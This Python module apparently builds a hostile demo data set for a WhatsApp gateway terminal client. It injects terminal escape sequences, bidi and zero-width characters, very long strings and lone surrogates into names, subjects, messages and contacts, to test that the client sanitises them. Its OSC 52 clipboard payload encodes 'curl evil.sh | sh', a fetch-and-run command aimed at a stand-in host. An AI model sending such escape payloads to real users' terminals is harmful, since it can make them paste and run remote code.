"""The hostile data set: a demo world whose every text field attacks the terminal.

``DemoServer(hostile=True)`` (or ``gateway-tui demo-server --hostile``) serves it. What a WhatsApp
user or a misbehaving gateway can put in a name, a status, a subject or a profile:

- escape sequences that set the clipboard (OSC 52), the window title (OSC 2), wipe the screen
  (CSI 2 J), and the same as 8-bit C1 controls (CSI 0x9B, OSC 0x9D … ST 0x9C);
- bidi overrides and isolates, zero-width characters;
- 10,000-character names and subjects;
- lone surrogates (``"\\ud800"`` in JSON), which no UTF-8 encoder accepts.

The curated names stay recognisable ("sales-eu" starts "sales-eu"), so tests can find things.
"""

from __future__ import annotations

from gateway_tui.demo.data import DemoState, build_workspace

# Each attack, as a user would meet it in the wild.
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
TITLE = "\x1b]2;you have been pwned\x07"
WIPE = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
C1_OSC = "\x9d0;c1 title\x9c"
BIDI = "\u202e\u2066"
ZERO_WIDTH = "\u200b\u200d\ufeff"
ATTACKS = CLIPBOARD + TITLE + WIPE + C1_CSI + C1_OSC + BIDI + ZERO_WIDTH
LONG = "W" * 10_000
LONE_SURROGATE = "\ud800"


def hostile(text: str) -> str:
    """``text`` followed by every attack."""
    return f"{text}{ATTACKS}"


def make_hostile(state: DemoState) -> DemoState:
    """Rewrite ``state`` in place so every text a client shows carries the attacks."""
    renamed = {}
    for position, instance in enumerate(state.instances.values()):
        workspace = build_workspace(instance)  # built under the clean name, then poisoned
        instance._workspace = workspace
        if position == 1:
            instance.name = hostile(instance.name) + LONG
        else:
            instance.name = hostile(instance.name)
        instance.profile_name = hostile(instance.profile_name) + (LONG if position == 2 else "")
        instance.profile_status = hostile(instance.profile_status)
        if position == 3:
            # One instance a strict JSON reader refuses: the client skips and counts it.
            instance.instance_id = f"broken {LONE_SURROGATE} id"
        instance.status = hostile(instance.status) if position == 4 else instance.status
        for group in workspace.groups.values():
            group.subject = hostile(group.subject)
            group.description = hostile(group.description)
            for participant in group.participants:
                participant["name"] = hostile(participant.get("name", "member"))
            # A member whose id itself carries the attacks (ids are shown, copied, exported).
            group.participants.append(
                {"id": hostile("4915100000001") + "@s.whatsapp.net", "admin": None}
            )
        for chat in workspace.chats.values():
            for message in chat.messages:
                message.text = hostile(message.text)
                message.push_name = hostile(message.push_name) if message.push_name else ""
        # Contact names are set by any WhatsApp user: they carry the attacks too.
        workspace.contacts = {jid: hostile(name) for jid, name in workspace.contacts.items()}
        renamed[instance.name] = instance
    first = next(iter(renamed.values()), None)
    if first is not None:
        groups = list(first.workspace.groups.values())
        if groups:
            groups[0].subject = hostile("a very long subject ") + LONG
    state.instances = renamed
    for number in ("5511912345678", "447700900456"):
        state.profile_overrides[number] = {
            field: hostile(field) for field in ("name", "status", "email", "description")
        } | {"website": hostile("https://evil.example")}
    return state
